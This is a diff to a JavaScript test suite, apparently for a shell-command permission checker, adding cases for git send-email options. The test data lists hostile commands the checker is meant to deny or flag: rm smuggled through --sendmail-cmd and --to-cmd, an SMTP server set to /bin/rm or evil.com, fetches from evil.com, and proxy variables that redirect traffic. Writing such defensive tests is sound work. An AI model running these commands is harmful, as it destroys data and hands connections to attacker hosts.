@@ -162,6 +162,9 @@ describe('option forms and names the readers first missed', () => {
     [`perl -e 'print qx (rm x)'`, 'deny'], [`node -e 'fetch("https:evil.com")'`, 'deny'], [`node -e 'fetch("https:/evil.com")'`, 'deny'],
     // URLs a table command fetches.
     ['vim https://evil.com/x', 'deny'], ['xmllint http://evil.com/x.xml', 'deny'],
+    // git send-email's commands and its SMTP server (a program when absolute).
+    ["git send-email --sendmail-cmd='rm y' x", 'deny'], ['git send-email --smtp-server=/bin/rm x', 'deny'], ['git send-email --smtp-server evil.com x', 'deny'],
+    ["git send-email --to-cmd='rm y' x", 'deny'],
     // Variables that choose where later commands connect.
     ['export https_proxy=http://evil.com:3128; curl https://github.com', 'ask'], ['export PIP_INDEX_URL=https://evil.com/simple; pip install x', 'ask'],
     ['export GOPROXY=https://evil.com; go get x', 'ask'], ['export DOCKER_HOST=tcp://evil.com:2375; docker ps', 'ask'],
